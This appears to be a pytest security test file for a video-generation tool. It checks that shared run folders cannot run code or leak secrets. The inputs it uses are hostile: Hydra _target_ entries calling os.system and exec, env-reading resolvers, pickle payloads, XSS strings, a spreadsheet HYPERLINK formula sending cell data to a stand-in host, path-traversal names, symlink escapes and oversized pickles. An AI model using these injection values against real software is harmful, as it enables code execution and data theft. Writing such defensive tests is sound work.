"""What a shared folder could try: code by name, by resolver or by pickle, paths that lead out. Nothing happens."""

import csv
import errno
import json
import os
import pickle
import re
import shutil
import zipfile
from collections.abc import Callable
from importlib import import_module
from pathlib import Path
from typing import NoReturn

import numpy as np
import pytest
import torch
import yaml
from safetensors.torch import save_file

from src.common.checkpoints import usable
from src.common.errors import ResourceError, UserError
from src.data.subject import load_subject
from src.media.video import write_frames
from src.models.weights_file import tensor_shapes
from src.prepare import main as prepare
from src.runs.learn import Lesson, learn_once
from src.runs.run_folder import RunFolder
from src.sample import main as sample
from src.train import main as train
from tests.chaos import folders
from tests.chaos.damage import Payload
from tests.chaos.processes import MODULES, Command
from tests.chaos.world import STAGES
from tests.data.datasets.helpers import random_clips, write_split

SECRET = "what nobody may read"
TARGETS = {
    "function": {"_target_": "os.system", "_args_": ["touch owned"]},
    "hub": {"_target_": "torch.hub.load", "repo_or_dir": ".", "model": "owned", "source": "local"},
    "partial": {"_target_": "builtins.exec", "_partial_": False, "_args_": ["open('owned', 'w')"]},
}
HTML = "<script>open('owned')</script><img src=x onerror=alert(1)>"
RESOLVED = "${oc.env:SECRET} ${package_path:x} ${now:%Y} ${hydra:runtime.cwd} ${free_gpu:}"


@pytest.fixture
def shared(finished: Callable[[str], Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder that came from somebody: a subject, its run and a result; with a trap for what would be run."""
    monkeypatch.setenv("SECRET", SECRET)
    folders.copy(finished("score"), tmp_path)
    (tmp_path / "hubconf.py").write_text("open('owned', 'w')\n")
    return tmp_path


def assert_nothing_happened(folder: Path) -> None:
    assert not (folder / "owned").exists(), "it ran"
    told = [path for path in folder.rglob("*") if path.is_file() and SECRET.encode() in path.read_bytes()]
    assert told == [], "it told the secret"


def edit(path: Path, **changes: object) -> None:
    """Change a JSON or YAML file, dots in names for keys below."""
    load, dump = (json.loads, json.dumps) if path.suffix == ".json" else (yaml.safe_load, yaml.safe_dump)
    values = load(path.read_text())
    for name, value in changes.items():
        node = values
        *above, last = name.split(".")
        for key in above:
            node = node[key]
        node[last] = value
    path.write_text(dump(values))


def refused(call_main, command: Command) -> str:
    """Run a command that must be refused; its one line."""
    status, stderr = call_main(import_module(MODULES[command.name]).main, *command.arguments)
    assert status == 2 and stderr.startswith("error: ") and stderr.count("\n") == 1, stderr
    return stderr


@pytest.mark.parametrize("target", TARGETS)
@pytest.mark.parametrize("key", ["trainer.plugins", "trainer", "logger", "callbacks", "pose", "model.base", "x"])
def test_a_target_in_a_runs_settings(shared: Path, call_main, key: str, target: str) -> None:
    edit(shared / "run/config.yaml", **{key: TARGETS[target]})
    for command in (STAGES["sample"].command, Command("train", ("repeat=run", "run_dir=again"))):
        assert "run/config.yaml" in refused(call_main, command)
    assert_nothing_happened(shared)
    assert not (shared / "again").exists() and not (shared / "out").exists()


def test_a_run_as_hydra_config(shared: Path, call_main) -> None:
    """The old advice, `--config-path <run>`, is no way in either, nor is Hydra's other flag, nor a shorter form."""
    edit(shared / "run/config.yaml", **{"logger": TARGETS["function"], "hydra": {"job": {"chdir": True}}})
    edit(shared / "run/config.yaml", repeat=None)
    for flags in (("--config-path", "-cp"), ("--config-dir", "-cd")):
        for arguments in (*((flag, "run") for flag in flags), *((f"{flag}=run",) for flag in flags)):
            status, stderr = call_main(train, *arguments, "--config-name", "config")
            assert status == 2 and stderr.startswith(f"error: {flags[0]}=") and "run takes its settings" in stderr
    for shorter in ("--config-p", "--config-d"):
        status, stderr = call_main(train, f"{shorter}=run", "--config-name", "config")
        assert status == 2 and stderr.startswith(f"error: unrecognized arguments: {shorter}=run")
    assert_nothing_happened(shared)


@pytest.mark.parametrize(
    ("file", "key", "stages"),
    [
        ("run/training/clip.json", "prompt", ["sample", "show"]),
        ("run/config.yaml", "prompt", ["sample"]),
        ("run/config.yaml", "target_prompt", ["sample"]),
        ("data/me/subject.yaml", "prompt", ["train"]),
        ("scores.json", "method", ["report"]),
        ("scores.json", "benchmark", ["report"]),
    ],
)
def test_a_resolver_is_text(shared: Path, call_main, file: str, key: str, stages: list[str]) -> None:
    edit(shared / file, **{key: RESOLVED})
    for stage in stages:
        command = STAGES[stage].command
        arguments = [a.replace("run_dir=run", "run_dir=new") for a in command.arguments]
        status, stderr = call_main(import_module(MODULES[command.name]).main, *arguments)
        assert status == 0, stderr
        assert SECRET not in stderr
    assert_nothing_happened(shared)


def test_targets_and_resolvers_in_a_sweep(shared: Path, call_main) -> None:
    (shared / "sweep").mkdir()
    shutil.move(shared / "run", shared / "sweep/0")
    edit(shared / "sweep/0/summary.json", overrides=[RESOLVED, "method=${oc.env:SECRET}", "../../x", "=1+1", "<b>"])
    command = Command("report", ("sweep=sweep", "metrics=[ssim]", "output=report"))
    status, stderr = call_main(import_module(MODULES["report"]).main, *command.arguments)
    assert status == 0, stderr
    edit(shared / "sweep/0/config.yaml", **{"trainer.plugins": TARGETS["function"]})
    assert "trainer.plugins" in refused(call_main, command)
    assert_nothing_happened(shared)


PICKLES = {
    "run/adapter.safetensors": [STAGES["sample"].command],
    "run/training/poses.npz": [STAGES["sample"].command],
    "run/config.yaml": [STAGES["sample"].command, Command("train", ("repeat=run", "run_dir=again"))],
    "run/training/clip.json": [STAGES["sample"].command],
    "data/me/frames.npy": [Command("train", ("subject=me", "model=tiny", "run_dir=new"))],
    "data/me/poses.npz": [Command("train", ("subject=me", "model=tiny", "run_dir=new"))],
    "data/me/subject.yaml": [Command("train", ("subject=me", "model=tiny", "run_dir=new"))],
    "scores.json": [STAGES["report"].command],
    "clip.npz": [STAGES["sample"].command],
    "clip.mp4": [Command("prepare", ("video=clip.mp4", "name=new", "pose=file", "pose.path=clip.npz"))],
    "weights.ckpt": [Command("train", ("subject=me", "model=sd15", "model.base=weights.ckpt", "run_dir=new"))],
    "weights.safetensors": [Command("train", ("subject=me", "model=sd15", "model.base=weights.safetensors"))],
    "vae.pt": [Command("train", ("subject=me", "model=mini", "model.vae=vae.pt", "run_dir=new"))],
    **{
        f"base{suffix}": [Command("train", ("subject=me", "model=sd15", f"model.base=base{suffix}", "run_dir=new"))]
        for suffix in (".pt", ".pth", ".bin", ".CKPT")
    },
    "control.pth": [
        Command("train", ("subject=me", "model=mini", "model.controlnet=control.pth", "run_dir=new")),
    ],
}


@pytest.mark.parametrize("kind", ["pickle", "torch"])
@pytest.mark.parametrize("name", PICKLES)
def test_a_pickle_under_any_name(shared: Path, call_main, name: str, kind: str) -> None:
    if kind == "pickle":
        (shared / name).write_bytes(pickle.dumps(Payload()))
    else:
        torch.save({"state_dict": Payload()}, shared / name)
    for command in PICKLES[name]:
        refused(call_main, command)
    assert_nothing_happened(shared)


# Files of networks that judge, by the metric that asks for each; of two of them nobody publishes a checksum.
JUDGES = {
    "inception-2015-12-05.pt": ("fid", "paper"),
    "pt_inception-2015-12-05-6726825d.pth": ("fid", "disco"),
    "i3d_torchscript.pt": ("fvd", "paper"),
    "i3d_pretrained_400.pt": ("fvd", "disco"),
    "alexnet-owt-7be5be79.pth": ("lpips", "paper"),
    "vgg16-397923af.pth": ("lpips", "disco"),
    "resnet-50-kinetics.pth": ("fid-vid", "disco"),
    "vit_g_hybrid_pt_1200e_ssv2_ft.pth": ("fvd-videomae", "paper"),
    "clip-vit-base-patch32/pytorch_model.bin": ("clip-t", "paper"),
}


@pytest.mark.parametrize("kind", ["pickle", "torch", "others"])
@pytest.mark.parametrize("name", JUDGES)
def test_a_pickle_in_place_of_a_network_that_judges(shared: Path, call_main, name: str, kind: str) -> None:
    metric, protocol = JUDGES[name]
    path = shared / "weights" / name
    path.parent.mkdir(parents=True)
    for beside in ("config.json", "preprocessor_config.json"):
        (path.parent / beside).write_text("{}")
    if kind == "pickle":
        path.write_bytes(pickle.dumps(Payload()))
    else:
        torch.save({"state_dict": Payload() if kind == "torch" else {"weight": torch.zeros(1)}}, path)
    # Frames enough for windows of 16.
    for side, grey in (("generated", 100), ("real", 120)):
        write_frames(shared / side, np.full((16, 64, 64, 3), grey, np.uint8))
    arguments = ("generated=generated", "real=real", f"metrics=[{metric}]", f"protocol={protocol}")
    line = refused(call_main, Command("score", (*arguments, "weights=weights", "download=false", "output=new.json")))
    assert path.name in line
    assert_nothing_happened(shared)
    assert not (shared / "new.json").exists()


@pytest.mark.parametrize(
    "hostile",
    ['=HYPERLINK("http://x/?"&A1)', "+1", "-1+1", "@SUM(A1)", "\t=1", HTML, "| a | b |\n# c", "![a](http://x/y.png)"],
)
def test_formulas_and_html_in_a_result_are_text(shared: Path, call_main, hostile: str) -> None:
    edit(shared / "scores.json", method=hostile, benchmark=hostile, command=hostile, hardware=hostile)
    edit(shared / "scores.json", **{"missing": {"fid": hostile}, "warnings": [hostile], "sizes": [hostile]})
    clips = json.loads((shared / "scores.json").read_text())["clips"]
    edit(shared / "scores.json", clips={hostile: next(iter(clips.values()))})
    status, stderr = call_main(import_module(MODULES["report"]).main, *STAGES["report"].command.arguments)
    assert status == 0, stderr
    report = shared / "report"
    with open(report / "tables.csv", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert any(cell.lstrip("'").strip() == hostile.strip() for cell in cells), "the name is there, as text"
    assert [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r")) or cell.startswith("-1+")] == []
    markdown, page = (report / "tables.md").read_text(), (report / "report.html").read_text()
    for tag in ("<script>open", "<img src=x"):
        assert tag not in markdown and tag not in page
    assert not any(line.startswith("# c") for line in markdown.splitlines())
    # The command alone stands in a block of code, where nothing is a link.
    cards = [path.read_text().replace(f"```\n{hostile}", "") for path in report.rglob("cards/*/*.md")]
    assert cards and not any(re.search(r"(?<!\\)\]\(http", text) for text in (markdown, *cards))
    assert_nothing_happened(shared)


OUTSIDE = ["/abs", "../../x", "..", "a/../../x", "a\\..\\x", ".ssh"]


@pytest.mark.parametrize("name", OUTSIDE)
def test_names_in_a_list_of_videos_lead_nowhere(shared: Path, call_main, name: str) -> None:
    columns, values = "video_id,start,end,bbox,fps,width,height,partition", "0,0,0-0-64-64,10,64,64,test"
    (shared / "list.csv").write_text(f"{columns}\n{name}#1#3,{values}\n")
    before = everything(shared.parent)
    command = Command("prepare", ("dataset=ted", "dataset.metadata=list.csv", "pose=file", "pose.path=clip.npz"))
    assert "list.csv, line 2: " in refused(call_main, command)
    assert everything(shared.parent) == before


@pytest.mark.parametrize("name", OUTSIDE)
def test_names_in_a_table_of_frames_lead_nowhere(shared: Path, call_main, name: str) -> None:
    write_split(shared / "tsv", random_clips([2]))
    for path in (shared / "tsv").glob("*.tsv"):
        rows = [line.split("\t") for line in path.read_text().splitlines()]
        path.write_text("".join(f"{name}_{i:06d}.png\t{row[1]}\n" for i, row in enumerate(rows)))
    for index in (shared / "tsv").glob("*.lineidx*"):
        index.unlink()
    before = everything(shared.parent)
    options = ("dataset=tiktok", "dataset.root=tsv", "pose=file", "pose.path=clip.npz", "data.resolution=64")
    assert "images.tsv" in refused(call_main, Command("prepare", options))
    assert everything(shared.parent) == before


def everything(folder: Path) -> set[Path]:
    """All that lies in a folder, and what a name that leads out of it could have made."""
    return {*folder.rglob("*"), *(path for path in (Path("/abs"), Path("/x")) if path.exists())}


@pytest.mark.parametrize("kind", ["pickle", "torch", "half", "empty", "others"])
def test_a_checkpoint_that_is_none_is_passed_over(tmp_path: Path, monkeypatch, kind: str) -> None:
    """And the fine-tune begins anew, which is what a killed one's owner would do."""
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "last.ckpt"
    torch.save({"state_dict": Payload()} if kind == "torch" else {"weights": torch.zeros(3)}, path)
    if kind == "pickle":
        path.write_bytes(pickle.dumps(Payload()))
    elif kind == "half":
        path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    elif kind == "empty":
        path.write_bytes(b"")
    assert usable(path) is None and os.listdir() == ["last.ckpt"]


@pytest.mark.parametrize(
    ("packing", "pickled"),
    [(zipfile.ZIP_DEFLATED, "data.pkl"), (zipfile.ZIP_STORED, "data.pkl"), (zipfile.ZIP_STORED, "data.PKL")],
)
def test_a_checkpoint_is_not_larger_than_it_looks(
    tmp_path: Path, monkeypatch, caplog, packing: int, pickled: str
) -> None:
    """Ten million empty lists are ten kilobytes, compressed, and a gigabyte in memory; nor is the pickle unpacked.

    PyTorch finds the pickle by any case of its name.
    """
    path = tmp_path / "last.ckpt"
    torch.save({}, path)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", packing) as archive:
        for name, content in parts.items():
            large = b"\x80\x02](" + b"]" * 5_000_000 + b"e." if name.endswith("data.pkl") else content
            archive.writestr(name.replace("data.pkl", pickled), large)
    monkeypatch.setattr(torch, "load", None)
    assert usable(path) is None
    why = "compressed, as PyTorch packs code but no weights" if packing else "4.77 MiB of pickled names"
    assert re.search(rf"last.ckpt holds (\S+ )?{why}", caplog.text)
    assert caplog.text.endswith(": training begins anew\n") and "DamagedFile" not in caplog.text
    with pytest.raises(UserError, match=r"^model.base=.*last.ckpt holds .*: convert it to safetensors"):
        tensor_shapes(str(path), option="model.base")


@pytest.mark.parametrize("appended", ["nothing", "a zip"])
def test_weights_in_the_old_format_are_not_larger_than_they_look(tmp_path: Path, monkeypatch, appended: str) -> None:
    """PyTorch tells the formats apart by how a file begins, Python by how it ends."""
    path = tmp_path / "old.ckpt"
    torch.save({"weight": torch.ones(2)}, path, _use_new_zipfile_serialization=False)
    assert tensor_shapes(str(path), option="model.base") == {"weight": (2,)}
    before = b"".join(pickle.dumps(value, 2) for value in (0x1950A86A20F9469CFC6C, 1001, {}))
    path.write_bytes(before + b"\x80\x02(" + b"]" * 5_000_000 + b"t." + pickle.dumps([], 2))
    if appended == "a zip":
        with zipfile.ZipFile(path, "a") as archive:
            archive.writestr("model/data.pkl", b"")
    monkeypatch.setattr(torch, "load", None)
    with pytest.raises(UserError, match=r"^model.base=.*old.ckpt holds 4.77 MiB of pickled names.*: convert it"):
        tensor_shapes(str(path), option="model.base")


def test_a_checkpoint_that_the_system_does_not_give_is_no_damaged_one(tmp_path: Path, monkeypatch) -> None:
    """Training would begin anew, and replace it; weights are not to be downloaded again."""
    torch.save({}, tmp_path / "last.ckpt")
    save_file({}, tmp_path / "last.safetensors")

    def refuse(*_: object) -> int:
        raise PermissionError(errno.EACCES, "denied")

    monkeypatch.setattr(os, "open", refuse)
    monkeypatch.setattr("src.models.weights_file.safe_open", refuse)
    with pytest.raises(ResourceError, match="last.ckpt cannot be read: permission denied"):
        usable(tmp_path / "last.ckpt")
    for name in ("last.ckpt", "last.safetensors"):
        with pytest.raises(ResourceError, match=f"{name} cannot be read: permission denied"):
            tensor_shapes(str(tmp_path / name), option="model.base")


@pytest.mark.parametrize("name", ["../../x", "/x", "a/../../x", "..", "data"])
def test_names_in_a_manifest_lead_nowhere(shared: Path, call_main, name: str) -> None:
    (shared / "clips").mkdir()
    shutil.copy(shared / "clip.mp4", shared / "clips/one.mp4")
    entry = {"source": {"file": name}, "record_sha256": "0", "frames": 1}
    (shared / "data/clips.manifest.json").write_text(json.dumps({"subjects": {name: entry}}))
    before = {path for path in shared.rglob("*") if "data" not in path.parts}
    options = ("dataset=folder", "dataset.root=clips", "pose=file", "pose.path=clip.npz", "data.resolution=64")
    assert call_main(prepare, *options)[0] == 0
    assert {path for path in shared.rglob("*") if "data" not in path.parts} == before
    assert not (shared.parent / "x").exists() and not Path("/x").exists()


def test_names_that_no_record_can_hold_are_refused_before_the_work(shared: Path, call_main) -> None:
    """Bytes that are no UTF-8, where no command line names them: what was written with them nothing could read."""
    for side in ("clips", "real"):
        (shared / side).mkdir()
        shutil.copy(shared / "clip.mp4", os.fsencode(shared / side) + b"/\xff.mp4")
    options = ("dataset=folder", "dataset.root=clips", "pose=file", "pose.path=clip.npz", "data.resolution=64")
    assert "\\udcff.mp4 is not in UTF-8" in refused(call_main, Command("prepare", options))
    assert not (shared / "data/clips_001").exists()
    score = Command("score", ("generated=clips", "real=real", "metrics=[ssim]", "output=new.json"))
    assert "\\udcff.mp4 is not in UTF-8" in refused(call_main, score)
    assert not (shared / "new.json").exists()


def test_a_run_does_not_say_where_it_is_repeated(shared: Path, call_main) -> None:
    """Neither the run, nor its fine-tune for others, nor what is prepared."""
    theirs = {"run_dir": "../theirs/run", "fine_tune_cache": str(shared.parent / "theirs/cache")}
    edit(shared / "run/config.yaml", subject="clip.mp4", pose={"kind": "file", "path": "clip.npz"}, **theirs)
    edit(shared / "run/config.yaml", **{"data.root": "../theirs/data"})
    before = set(shared.parent.iterdir())
    assert call_main(train, "repeat=run", "data.root=mine", "sample_after_train=false") == (0, "")
    assert set(shared.parent.iterdir()) == before
    [again] = (shared / "outputs").iterdir()
    assert (again / "adapter.safetensors").exists() and list((shared / "mine").iterdir())
    assert call_main(train, "repeat=run", "sample_after_train=false", "run_dir=new", "fine_tune_cache=kept") == (0, "")
    assert len(list((shared / "kept").iterdir())) == 1 and set(shared.parent.iterdir()) == before


@pytest.mark.parametrize("name", ["samples", "samples/clip", "samples/clip/unfinished"])
def test_a_link_in_a_run_leads_no_sample_out(shared: Path, call_main, name: str) -> None:
    (shared / "theirs").mkdir()
    (shared / "run" / name).parent.mkdir(parents=True, exist_ok=True)
    (shared / "run" / name).symlink_to(shared / "theirs")
    line = refused(call_main, Command("sample", ("run=run", "poses=clip.npz", "sampling.window_frames=3")))
    assert f"run/{name} is a link, which is not followed: remove it" in line
    assert not list((shared / "theirs").iterdir())


@pytest.mark.parametrize("place", [".old", ".old/csv", ".old/csv/metrics.csv"])
def test_a_link_in_what_was_moved_aside_leads_nothing_in_or_out(tmp_path: Path, place: str) -> None:
    """What a killed writer had moved aside is put back behind the look for links, from wherever it seems to be."""
    run, theirs = tmp_path / "run", tmp_path / "theirs"
    theirs.mkdir()
    (theirs / "secret").write_text(SECRET)
    link = run / f".posecrafter-00000000-1-1-00000000{place}"
    link.parent.mkdir(parents=True)
    link.symlink_to(theirs)
    with RunFolder(run).only_writer():
        assert not (run / "csv").exists() and not (run / "secret").exists()
    assert (theirs / "secret").read_text() == SECRET and link.is_symlink()


WRITTEN_BY_A_RUN = (".lock", "config.yaml", "checkpoints", "unfinished", "csv", "tensorboard", "wandb", "preview")
BY_A_REPAIR = ("segments", "segments.json")


@pytest.mark.parametrize(
    "name", [*WRITTEN_BY_A_RUN, *BY_A_REPAIR, "frames", "csv/metrics.csv", "checkpoints/last.ckpt"]
)
def test_a_link_in_a_run_leads_nothing_out(tmp_path: Path, name: str) -> None:
    """Whatever writes there, a library's own writer too, which would follow it."""
    run, theirs = tmp_path / "run", tmp_path / "theirs"
    (run / name).parent.mkdir(parents=True)
    theirs.write_text("theirs")
    (run / name).symlink_to(theirs)
    with (
        pytest.raises(UserError, match=f"run/{name} is a link, which is not followed"),
        RunFolder(run).only_writer(),
    ):
        pass
    assert theirs.read_text() == "theirs" and [*run.rglob("*")][-1] == run / name
    (run / name).unlink()
    (run / ".lock").touch()
    # Links within, as W&B keeps, and in what is nobody's to write.
    (run / "wandb").mkdir(exist_ok=True)
    (run / "wandb/latest").symlink_to("../wandb")
    # A run of W&B's, whatever WANDB_RUN_ID calls it.
    for written in ("run-20261130_090158-k2x0a9", "offline-run-20261130_090158-my-run.2"):
        (run / "wandb" / written / "logs").mkdir(parents=True)
        (run / "wandb" / written / "logs/debug-core.log").symlink_to(theirs)
    (run / "notes").symlink_to(theirs)
    with RunFolder(run).only_writer():
        pass


def test_a_fine_tune_does_not_follow_links_of_a_run(shared: Path, call_main) -> None:
    (shared / "theirs").mkdir()
    (shared / "run/csv").rename(shared / "run/csv-of-before")
    (shared / "run/csv").symlink_to(shared / "theirs")
    before = folders.content(shared)
    again = Command("train", (*STAGES["train"].command.arguments, "sampling.num_steps=2"))
    assert "run/csv is a link" in refused(call_main, again)
    assert folders.content(shared) == before


READ_BY_A_SAMPLE = ("config.yaml", "adapter.safetensors", "training/clip.json", "training/frames/00000.png")


@pytest.mark.parametrize("name", READ_BY_A_SAMPLE)
def test_nothing_is_read_through_a_link_of_a_run(shared: Path, call_main, name: str) -> None:
    (shared / "run" / name).rename(shared / "theirs")
    (shared / "run" / name).symlink_to(shared / "theirs")
    line = refused(call_main, Command("sample", ("run=run", "poses=clip.npz")))
    assert f"run/{name} is a link, which is not followed: remove it" in line


@pytest.mark.parametrize("name", ["frames", "held_out/poses.npz", "training/frames/00000.png", "summary.json"])
def test_nothing_is_scored_through_a_link_of_a_run(shared: Path, call_main, name: str) -> None:
    (shared / "run" / name).rename(shared / "theirs")
    (shared / "run" / name).symlink_to(shared / "theirs")
    assert f"run/{name} is a link" in refused(call_main, Command("score", ("run=run", "metrics=[ssim]")))


def test_a_look_reads_no_clip_through_a_link_of_a_run(shared: Path, call_main, monkeypatch) -> None:
    (shared / "run/training").rename(shared / "run/real")
    (shared / "run/training").symlink_to("real")
    monkeypatch.setattr(RunFolder, "training", nothing_is_learnt)
    line = refused(call_main, Command("poses", ("show", "run=run", "poses=clip.npz")))
    assert "run/training is a link, which is not followed" in line


def test_a_run_that_is_itself_a_link_is_read(shared: Path) -> None:
    (shared / "other").symlink_to("run")
    assert RunFolder(shared / "other").settings() == RunFolder(shared / "run").settings()


def test_nothing_is_read_through_a_link_of_a_subject(shared: Path) -> None:
    (shared / "data/me/frames.npy").rename(shared / "theirs")
    (shared / "data/me/frames.npy").symlink_to(shared / "theirs")
    with pytest.raises(UserError, match="frames.npy is a link, which is not followed"):
        load_subject("me", shared / "data")


@pytest.mark.parametrize("name", ["", "adapter.safetensors", ".lock"])
def test_a_link_in_a_cache_of_fine_tunes_leads_nothing_out(tmp_path: Path, name: str) -> None:
    lesson = Lesson("k" * 64, train=nothing_is_learnt, save=nothing_is_learnt, load=nothing_is_learnt)
    kept, theirs = tmp_path / "cache" / lesson.key[:24] / name, tmp_path / "theirs"
    theirs.mkdir()
    kept.parent.mkdir(parents=True)
    kept.symlink_to(theirs)
    with pytest.raises(UserError, match="is a link, which is not followed: remove it"):
        learn_once(RunFolder(tmp_path / "run"), lesson, cache=str(tmp_path / "cache"))
    assert not list(theirs.iterdir())


def nothing_is_learnt(path: Path) -> NoReturn:
    raise AssertionError(f"{path} is a link")


@pytest.mark.parametrize("name", [".locks", ".locks/new", ".poses"])
def test_a_link_beside_subjects_leads_no_poses_out(shared: Path, call_main, name: str) -> None:
    (shared / "theirs").mkdir()
    shutil.rmtree(shared / "data" / name, ignore_errors=True)
    (shared / "data" / name).symlink_to(shared / "theirs")
    arguments = [word for word in STAGES["prepare"].command.arguments if not word.startswith("name=")]
    line = refused(call_main, Command("prepare", (*arguments, "name=new")))
    assert f"data/{name} is a link, which is not followed: remove it" in line
    assert not list((shared / "theirs").iterdir())


@pytest.mark.parametrize(("name", "output"), [("report", []), ("report/cards", []), ("out/cards", ["output=out"])])
def test_a_link_beside_results_leads_no_report_out(shared: Path, call_main, name: str, output: list[str]) -> None:
    (shared / "theirs").mkdir()
    (shared / "theirs/01_mine.md").touch()
    (shared / name).parent.mkdir(exist_ok=True)
    (shared / name).symlink_to(shared / "theirs")
    assert f"{name} is a link" in refused(call_main, Command("report", ("results=scores.json", *output)))
    assert [path.name for path in (shared / "theirs").iterdir()] == ["01_mine.md"]


def test_a_folder_that_is_not_ours_stays(shared: Path, call_main) -> None:
    (shared / "mine/frames").mkdir(parents=True)
    (shared / "mine/frames/holiday.png").write_bytes(b"mine")
    mine = folders.content(shared / "mine")
    sampling = ("run=run", "poses=clip.npz")
    for main, arguments in (
        (sample, (*sampling, "output=mine")),
        (train, (*STAGES["train"].command.arguments, "run_dir=mine")),
    ):
        status, stderr = call_main(main, *arguments)
        assert status == 2 and "mine holds frames, which was not written here before" in stderr
        assert folders.content(shared / "mine") == mine
    for argument in ("run_dir=", "run_dir= "):
        status, stderr = call_main(train, *STAGES["train"].command.arguments, argument)
        assert status == 2 and "an empty name would be the working directory" in stderr
    # Beside what is ours, results may be made again, and what else lies there stays.
    assert call_main(sample, *sampling, "output=out")[0] == 0
    (shared / "out/notes.txt").write_text("mine")
    assert call_main(sample, *sampling, "output=out", "seed=1")[0] == 0
    assert (shared / "out/notes.txt").read_text() == "mine"


@pytest.mark.parametrize("fps", ["9" * 400, "1/" + "9" * 400, "-1", "0"])
def test_a_rate_that_no_clip_has_is_one_line(shared: Path, fps: str) -> None:
    edit(shared / "data/me/subject.yaml", fps=fps)
    with pytest.raises(UserError, match="data/me is damaged .fps is .*: expected above 0 and at most 1000"):
        load_subject("me", shared / "data")
